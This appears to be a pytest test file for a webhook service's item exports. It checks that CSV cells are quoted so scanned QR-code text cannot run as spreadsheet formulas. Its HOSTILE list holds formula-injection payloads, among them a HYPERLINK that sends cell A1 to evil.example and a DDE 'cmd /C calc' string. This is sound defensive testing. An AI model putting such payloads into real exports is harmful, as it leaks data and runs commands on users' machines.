"""S15: no CSV export can carry a formula into the spreadsheet that opens it.

A QR code on a parcel label is text we store as read: ``=HYPERLINK(...)``, ``+``, ``-``, ``@``,
a tab or a carriage return at the start of a cell makes a spreadsheet run it. Every cell of every
CSV export (items and deliveries, list columns included) is written as text; the JSON Lines
exports give the values back unchanged.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import Iterator

import httpx
import pytest

from dimmy_webhooks.devtools.runner import serve_in_thread
from dimmy_webhooks.models import Source
from dimmy_webhooks.store import create_store
from dimmy_webhooks.web import create_app
from dimmy_webhooks.web.api.exports import csv_row

from ..support.builders import make_settings, stored_item
from ..support.constants import ADMIN_TOKEN, AUTH, T0

pytestmark = pytest.mark.faults

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _items() -> list[object]:
    made = []
    for n, payload in enumerate(HOSTILE):
        made.append(
            stored_item(
                f"item-{n}",
                "2026-01-01T00:00:00.000000Z",
                barcode="plain",
                # the list columns: a hostile value first, as a label's QR code puts it
                barcodes=(payload, "plain"),
                photo_urls=(payload, "https://photos.example/1.jpg"),
                scanner_account_id=payload,
                owner_id=payload,
                flow_id=payload,
                dimension_unit=payload,
                fetched_at=T0 + n,
            )
        )
    return made


@pytest.fixture
def service(db_url: str) -> Iterator[str]:
    async def seed() -> None:
        store = create_store(db_url)
        await store.open()
        try:
            await store.save_polled(_items(), Source.POLL, [], T0)  # type: ignore[arg-type]
        finally:
            await store.close()

    asyncio.run(seed())
    settings = make_settings(db_url, admin_token=ADMIN_TOKEN)
    with serve_in_thread(create_app(settings, run_worker=False)) as url:
        yield url


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_cell_of_the_items_csv_is_text(service: str) -> None:
    answer = httpx.get(f"{service}/api/items.csv", headers=AUTH)
    assert answer.status_code == 200, answer.text
    rows = _cells(answer.text)
    assert len(rows) == 1 + len(HOSTILE)
    header, body = rows[0], rows[1:]
    for row in body:
        for name, cell in zip(header, row, strict=True):
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
    columns = {name: [row[header.index(name)] for row in body] for name in header}
    # the value is kept, behind the quote that makes it text
    assert sorted(columns["barcodes"]) == sorted(f"'{p} plain" for p in HOSTILE)
    assert sorted(columns["scanner_account_id"]) == sorted(f"'{p}" for p in HOSTILE)


def test_the_json_lines_export_is_unchanged(service: str) -> None:
    answer = httpx.get(f"{service}/api/items.jsonl", headers=AUTH)
    assert answer.status_code == 200, answer.text
    lines = [json.loads(line) for line in answer.text.splitlines()]
    assert sorted(line["barcodes"][0] for line in lines) == sorted(HOSTILE)
    assert sorted(line["photo_urls"][0] for line in lines) == sorted(HOSTILE)


@pytest.mark.parametrize("payload", HOSTILE)
def test_every_cell_of_a_csv_row_is_text(payload: str) -> None:
    """The one writer of both exports' rows (the ledger's included): strings, lists, numbers."""
    row = csv_row([payload, [payload, "x"], -3, None, "plain", ["plain", payload]])
    [cells] = _cells(row.decode())
    assert cells == [f"'{payload}", f"'{payload} x", "-3", "", "plain", f"plain {payload}"]
